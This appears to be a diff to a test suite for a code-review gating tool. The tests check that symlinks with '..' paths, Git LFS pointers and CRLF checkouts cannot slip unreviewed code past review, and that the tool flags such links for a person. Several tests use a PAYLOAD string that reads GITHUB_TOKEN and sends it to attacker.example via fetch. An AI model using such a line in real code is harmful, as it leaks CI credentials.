@@ -34,6 +34,11 @@ function write(repo: string, path: string, data: string | Buffer): void {
   writeFileSync(join(repo, path), data);
 }
 
+function link(repo: string, path: string, target: string): void {
+  mkdirSync(dirname(join(repo, path)), { recursive: true });
+  symlinkSync(target, join(repo, path));
+}
+
 /**
  * The cart repository where `place`, committed first as `text`, names `tools/ci/.env`, and a change
  * that adds that file beside a reviewed edit: review scope's answer on it.
@@ -3239,10 +3244,6 @@ describe('#414 what a file name or a NUL byte could do to what the agent reads',
 
 describe('#424 a selected link is reviewed only when it leads to what the review reads', () => {
   const PAYLOAD = 'const t = process.env.GITHUB_TOKEN;\nfetch("https://attacker.example/?t=" + t);\n';
-  const link = (repo: string, path: string, target: string) => {
-    mkdirSync(dirname(join(repo, path)), { recursive: true });
-    symlinkSync(target, join(repo, path));
-  };
   /** A gitlink `sub` in the base, its folder holding `evil.js` as a checked-out submodule would. */
   const submodule = (repo: string) => {
     git(repo, 'update-index', '--add', '--cacheinfo', `160000,${rev(repo, 'HEAD')},sub`);
@@ -3361,10 +3362,6 @@ describe('#424 a selected link is reviewed only when it leads to what the review
 
 describe('#509 a selected link to a folder is reviewed only when the review reads everything under it', () => {
   const PAYLOAD = 'fetch("https://attacker.example/?t=" + process.env.GITHUB_TOKEN);\n';
-  const link = (repo: string, path: string, target: string) => {
-    mkdirSync(dirname(join(repo, path)), { recursive: true });
-    symlinkSync(target, join(repo, path));
-  };
 
   /**
    * The base links `src/plugins` to `lib/safe`, `before` fills `lib/w`; the change retargets the link
@@ -3470,6 +3467,213 @@ describe('#509 a selected link to a folder is reviewed only when the review read
     const scope = await seal(repo, ['--base', 'HEAD~1']);
     expect(scope.files.map((f) => [f.path, f.unreviewedTarget])).toEqual([
       ['src/cart.js', undefined],
+      ['src/plugins', undefined],
+    ]);
+  });
+});
+
+describe('#521 a `..` after a link in a link target goes up from where that link leads, as the system resolves it', () => {
+  const PAYLOAD = 'fetch("https://attacker.example/?t=" + process.env.GITHUB_TOKEN);\n';
+
+  /**
+   * The base holds `lib/helpers` (what a resolution by name alone reads), an unchanged link
+   * `lib/current` -> `current`, `src/plugins` -> `../lib/safe` and what `before` adds; the change
+   * retargets `src/plugins` to `target` beside a reviewed edit, committed or (`workspace`) left in the working tree.
+   */
+  function retargeted(current: string, target: string, before: (repo: string) => void = () => undefined, workspace = false): string {
+    const repo = makeCartRepo();
+    write(repo, 'lib/safe/index.js', 'module.exports = 1;\n');
+    write(repo, 'lib/helpers/index.js', 'module.exports = "benign";\n');
+    link(repo, 'lib/current', current);
+    link(repo, 'src/plugins', '../lib/safe');
+    before(repo);
+    commitAll(repo, 'base');
+    rmSync(join(repo, 'src/plugins'));
+    link(repo, 'src/plugins', target);
+    write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
+    if (!workspace) commitAll(repo, 'the change: src/plugins retargeted');
+    return repo;
+  }
+  const vendored = (r: string) => {
+    write(r, 'vendor/pkg/index.js', 'module.exports = 1;\n');
+    write(r, 'vendor/helpers/index.js', PAYLOAD);
+  };
+
+  it.each<[string, string, ((repo: string) => void)?, string[]?]>([
+    ['into vendored code (lib/current -> ../vendor/pkg: vendor/helpers opens)', '../vendor/pkg', vendored],
+    [
+      'into code an --exclude pattern names (lib/current -> ../docs/pkg)',
+      '../docs/pkg',
+      (r) => {
+        write(r, 'docs/pkg/index.js', 'module.exports = 1;\n');
+        write(r, 'docs/helpers/index.js', PAYLOAD);
+      },
+      ['--exclude', 'docs/**'],
+    ],
+    ['out of the repository (lib/current -> ../../outside/pkg)', '../../outside/pkg'],
+  ])(
+    '#521 src/plugins -> ../lib/current/../helpers, a link %s: unreviewedTarget, named for a person',
+    async (_name, current, before, args = []) => {
+      const repo = retargeted(current, '../lib/current/../helpers', before);
+      const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1', ...args]);
+      expect(r.code, r.stderr).toBe(0);
+      expect(readScope(repo).files.find((f) => f.path === 'src/plugins')).toMatchObject({ kind: 'symlink', unreviewedTarget: true });
+      expect(r.stdout).toMatch(/a person must look at \d+ changed file\(s\) no agent reviews: [^\n]*src\/plugins/);
+    },
+  );
+
+  it('#521 a new reviewed link, then `..` from where it leads: src/q/r/p.js -> x/../../lib/evil.js opens lib/evil.js, outside --include', async () => {
+    const repo = makeCartRepo();
+    write(repo, 'src/a/index.js', 'module.exports = 1;\n');
+    write(repo, 'src/q/lib/evil.js', 'module.exports = "benign";\n');
+    write(repo, 'lib/evil.js', PAYLOAD);
+    commitAll(repo, 'base');
+    link(repo, 'src/q/r/x', '../../a');
+    link(repo, 'src/q/r/p.js', 'x/../../lib/evil.js');
+    commitAll(repo, 'the change: two links');
+    expect(readFileSync(join(repo, 'src/q/r/p.js'), 'utf8')).toBe(PAYLOAD);
+    const scope = await seal(repo, ['--base', 'HEAD~1', '--include', 'src/**']);
+    expect(scope.files.map((f) => [f.path, f.unreviewedTarget])).toEqual([
+      ['src/q/r/p.js', true],
+      ['src/q/r/x', undefined],
+    ]);
+  });
+
+  it.each([
+    ["into .git (lib/conf -> ../.git/hooks, then ../config: the job's token)", '../.git/hooks', '../lib/current/../config'],
+    ['through a link that never ends (lib/current -> current/..)', 'current/..', '../lib/current/x.js'],
+  ])('#521 a link %s: a secret link, never selected', async (_name, current, target) => {
+    const repo = retargeted(current, target);
+    const scope = await seal(repo, ['--base', 'HEAD~1']);
+    expect(scope.files.map((f) => f.path)).toEqual(['src/cart.js']);
+    expect(scope.excluded).toContainEqual({ path: 'src/plugins', reason: 'secret', link: true });
+  });
+
+  it('#521 the issue: the gate derives the same and stays incomplete until a person acknowledges the link', async () => {
+    const repo = retargeted('../vendor/pkg', '../lib/current/../helpers', vendored);
+    expect(readFileSync(join(repo, 'src/plugins/index.js'), 'utf8')).toBe(PAYLOAD);
+    await seal(repo, ['--base', 'HEAD~1', '--effort', 'low', '--dispatch', 'one']);
+    answer(repo);
+    const event = prEvent(repo, 'HEAD~1');
+    const r = await gate(repo, {}, event);
+    expectIncomplete(r, /a person must look at each, then acknowledge it .*: src\/plugins/, rev(repo, 'HEAD'));
+    expect((await gate(repo, { acknowledge: 'src/plugins' }, event)).outputs.verdict).toBe('clean');
+  });
+
+  it('#521 --workspace: the same link left in the working tree is followed through the merge base’s links', async () => {
+    const repo = retargeted('../vendor/pkg', '../lib/current/../helpers', vendored, true);
+    const scope = await seal(repo, ['--workspace', '--base', 'HEAD']);
+    expect(scope.files.find((f) => f.path === 'src/plugins')).toMatchObject({ kind: 'symlink', unreviewedTarget: true });
+  });
+
+  it('#521 code an unchanged reviewed link reaches through a link and `..` is that name’s code: a vendored file under it is reviewed', async () => {
+    const repo = makeCartRepo();
+    vendored(repo);
+    link(repo, 'lib/current', '../vendor/pkg');
+    link(repo, 'src/plugins', '../lib/current/../helpers');
+    commitAll(repo, 'base');
+    write(repo, 'vendor/helpers/index.js', `${PAYLOAD}// more\n`);
+    write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
+    commitAll(repo, 'the change: the code src/plugins runs');
+    const scope = await seal(repo, ['--base', 'HEAD~1']);
+    expect(scope.files.map((f) => f.path)).toEqual(['src/cart.js', 'vendor/helpers/index.js']);
+  });
+
+  it('#521 a `..` through a link into reviewed code, or a `..` after a plain folder, stays reviewed', async () => {
+    const repo = retargeted('../lib2/pkg', '../lib/current/../helpers', (r) => {
+      write(r, 'lib2/pkg/index.js', 'module.exports = 1;\n');
+      write(r, 'lib2/helpers/index.js', 'module.exports = 2;\n');
+      vendored(r);
+    });
+    link(repo, 'src/other', '../vendor/../lib/helpers');
+    commitAll(repo, 'and a link through a plain folder');
+    const scope = await seal(repo, ['--base', 'HEAD~2']);
+    expect(scope.files.map((f) => [f.path, f.unreviewedTarget])).toEqual([
+      ['src/cart.js', undefined],
+      ['src/other', undefined],
+      ['src/plugins', undefined],
+    ]);
+  });
+});
+
+describe("#522 a link to unchanged content the checkout writes otherwise (a Git LFS pointer, CRLF) is a person's to look at", () => {
+  const POINTER = `version https://git-lfs.github.com/spec/v1\noid sha256:${'4d'.repeat(32)}\nsize 12345\n`;
+  const LFS = 'lib/w/** filter=lfs diff=lfs merge=lfs -text\n';
+
+  /** The base holds `.gitattributes`, what `fill` adds and `src/plugins` -> `../lib/safe`; the change retargets it to `target` beside a reviewed edit. */
+  function retargeted(attributes: string, fill: (repo: string) => void, target: string, workspace = false): string {
+    const repo = makeCartRepo();
+    write(repo, '.gitattributes', attributes);
+    write(repo, 'lib/safe/index.js', 'module.exports = 1;\n');
+    fill(repo);
+    link(repo, 'src/plugins', '../lib/safe');
+    commitAll(repo, 'base');
+    rmSync(join(repo, 'src/plugins'));
+    link(repo, 'src/plugins', target);
+    write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
+    if (!workspace) commitAll(repo, 'the change: src/plugins retargeted');
+    return repo;
+  }
+  const pointer = (r: string) => write(r, 'lib/w/index.js', POINTER);
+
+  it.each<[string, string, (repo: string) => void, string]>([
+    ['a folder git-lfs fills (../lib/w)', LFS, pointer, '../lib/w'],
+    ['a file git-lfs fills (../lib/w/index.js)', LFS, pointer, '../lib/w/index.js'],
+    ['a folder holding one git-lfs fills (../lib)', LFS, pointer, '../lib'],
+    [
+      'a folder whose link leads to one git-lfs fills (../lib/v, lib/v/w -> ../w)',
+      LFS,
+      (r) => {
+        pointer(r);
+        link(r, 'lib/v/w', '../w');
+      },
+      '../lib/v',
+    ],
+    [
+      'a file checked out with CRLF line ends (eol=crlf)',
+      'lib/w/*.sh eol=crlf\n',
+      (r) => write(r, 'lib/w/run.sh', 'echo a \\\necho b\n'),
+      '../lib/w/run.sh',
+    ],
+  ])('#522 src/plugins retargeted to %s: unreviewedTarget, named for a person', async (_name, attributes, fill, target) => {
+    const repo = retargeted(attributes, fill, target);
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    expect(r.code, r.stderr).toBe(0);
+    expect(readScope(repo).files.find((f) => f.path === 'src/plugins')).toMatchObject({ kind: 'symlink', unreviewedTarget: true });
+    expect(r.stdout).toMatch(/a person must look at \d+ changed file\(s\) no agent reviews: [^\n]*src\/plugins/);
+  });
+
+  it('#522 the issue: the gate derives the same and stays incomplete until a person acknowledges the link', async () => {
+    const repo = retargeted(LFS, pointer, '../lib/w');
+    await seal(repo, ['--base', 'HEAD~1', '--effort', 'low', '--dispatch', 'one']);
+    answer(repo);
+    const event = prEvent(repo, 'HEAD~1');
+    expectIncomplete(await gate(repo, {}, event), /a person must look at each, then acknowledge it .*: src\/plugins/, rev(repo, 'HEAD'));
+    expect((await gate(repo, { acknowledge: 'src/plugins' }, event)).outputs.verdict).toBe('clean');
+  });
+
+  it('#522 --workspace: a link left in the working tree to a folder git-lfs fills is a person’s too', async () => {
+    const repo = retargeted(LFS, pointer, '../lib/w', true);
+    const scope = await seal(repo, ['--workspace', '--base', 'HEAD']);
+    expect(scope.files.find((f) => f.path === 'src/plugins')).toMatchObject({ kind: 'symlink', unreviewedTarget: true });
+  });
+
+  it('#522 under a filter, a file that is no pointer, and a file beside those a transform names, are checked out as git holds them: both stay reviewed', async () => {
+    const repo = retargeted(
+      `${LFS}lib/x/*.sh eol=crlf\n`,
+      (r) => {
+        write(r, 'lib/w/index.js', 'module.exports = 2;\n');
+        write(r, 'lib/x/run.sh', 'echo a\n');
+        write(r, 'lib/x/index.js', 'module.exports = 3;\n');
+      },
+      '../lib/w',
+    );
+    link(repo, 'src/other', '../lib/x/index.js');
+    commitAll(repo, 'and a link to a file no transform names');
+    const scope = await seal(repo, ['--base', 'HEAD~2']);
+    expect(scope.files.map((f) => [f.path, f.unreviewedTarget])).toEqual([
+      ['src/cart.js', undefined],
+      ['src/other', undefined],
       ['src/plugins', undefined],
     ]);
   });
